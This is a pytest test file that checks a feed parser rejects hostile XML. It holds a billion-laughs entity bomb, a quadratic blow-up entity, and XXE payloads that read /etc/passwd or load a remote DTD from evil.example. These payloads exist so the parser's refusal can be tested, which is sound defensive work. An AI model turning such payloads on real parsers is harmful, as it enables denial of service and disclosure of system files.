"""Hostile input (issue 15, points 4 to 6): XML entities, unbounded extraction work, lying charsets."""

from __future__ import annotations

import time
from datetime import datetime, timezone

import pytest

from storywire.connectors.errors import UnsafeXmlError
from storywire.connectors.feeds.parse import parse_feed

SEEN = datetime(2023, 5, 3, 9, 0, tzinfo=timezone.utc)
ITEM = "<item><title>{title}</title><link>https://o.example/a</link></item>"


def _feed(doctype: str, title: str = "&lol9;", prolog: str = "", declaration: str = "utf-8") -> str:
    return (
        f'<?xml version="1.0" encoding="{declaration}"?>{prolog}{doctype}'
        f'<rss version="2.0"><channel><title>t</title>{ITEM.format(title=title)}</channel></rss>'
    )


LAUGHS = (
    '<!DOCTYPE rss [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]>"
)
# The quadratic blow-up feedparser itself would expand: one long text entity, referenced many times.
QUADRATIC = f'<!DOCTYPE rss [\n<!ENTITY big "{"x" * 20_000}">\n]>'


def _refused(body: bytes, content_type: str | None = "application/rss+xml") -> UnsafeXmlError:
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError, match="declares entities") as info:
        parse_feed(body, "https://o.example/rss", SEEN, content_type)
    assert time.perf_counter() - started < 1.0
    return info.value


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"])
def test_billion_laughs_is_refused_in_utf16_and_utf32(codec: str) -> None:
    declared = "-".join(codec.split("-")[:2])  # utf-16-le is declared utf-16
    body = _feed(LAUGHS, declaration=declared).encode(codec)
    _refused(body)
    _refused(body, f"application/rss+xml; charset={codec}")


def test_quadratic_blowup_in_utf16_is_refused() -> None:
    _refused(_feed(QUADRATIC, title="&big;" * 2000, declaration="utf-16").encode("utf-16"))


def test_a_doctype_after_the_first_4_kib_is_refused() -> None:
    padding = "<!-- " + "padding " * 1000 + "-->\n"
    assert len(padding) > 4096
    error = _refused(_feed(QUADRATIC, title="&big;" * 100, prolog=padding).encode())
    assert "internal subset" in str(error)
    _refused(_feed(QUADRATIC, prolog=" \n" * 5000).encode())


def test_external_entities_are_refused() -> None:
    _refused(_feed('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', title="&xxe;").encode())
    _refused(_feed('<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>', title="x").encode())
    # An external DTD subset alone declares nothing and is not fetched: accepted (see below).


def test_an_internal_subset_without_entities_is_refused_too() -> None:
    _refused(_feed("<!DOCTYPE rss [<!ELEMENT rss ANY>]>", title="x").encode())


def test_entities_behind_a_broken_prolog_are_caught_by_the_second_check() -> None:
    # expat stops at the stray "<<" and never sees the DTD; feedparser's lenient parser would still expand it.
    body = _feed(QUADRATIC, title="&big;" * 100, prolog="<<\n").encode()
    assert "entity declarations big" in str(_refused(body))


def test_a_plain_doctype_without_internal_subset_is_accepted() -> None:
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    padding = "<!-- " + "padding " * 1000 + "-->\n"
    for codec in ("utf-8", "utf-16"):
        for body in (
            _feed(doctype, title="Plain &amp; simple", declaration=codec),
            _feed(doctype, title="Late", prolog=padding, declaration=codec),
        ):
            parsed = parse_feed(body.encode(codec), "https://o.example/rss", SEEN, "application/rss+xml")
            assert [item.link for item in parsed.items] == ["https://o.example/a"]
    parsed = parse_feed(_feed(doctype, title="Plain &amp; simple").encode(), "https://o.example/rss", SEEN)
    assert parsed.items[0].title == "Plain & simple"
